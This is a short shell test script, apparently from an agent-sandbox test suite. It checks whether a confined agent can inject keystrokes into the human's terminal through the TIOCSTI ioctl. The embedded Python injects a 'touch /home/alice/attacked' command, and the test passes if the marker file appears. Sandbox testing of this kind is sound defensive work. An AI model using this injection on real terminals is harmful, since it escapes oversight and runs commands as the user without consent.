#!/bin/sh
# The agent types a command into the human's shell (TIOCSTI)
. /opt/e2e/attacks-original/common
[ "$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null)" != 0 ] || { echo "this kernel has TIOCSTI switched off" >&2; exit 2; }
cat >/opt/type.py <<'PY'
import fcntl, os, termios
for fd in (0, os.open("/dev/tty", os.O_RDWR)):
    try:
        for c in "touch /home/alice/attacked\n":
            fcntl.ioctl(fd, termios.TIOCSTI, c.encode())
    except OSError as e:
        print(e)
PY
# An interactive shell, as the human: it takes the terminal back after the run, and leaves when nothing is typed.
terminal env TMOUT=4 PROMPT_COMMAND='PROMPT_COMMAND=; au run -- python3 /opt/type.py' bash --norc -i
succeeded test -e /home/alice/attacked
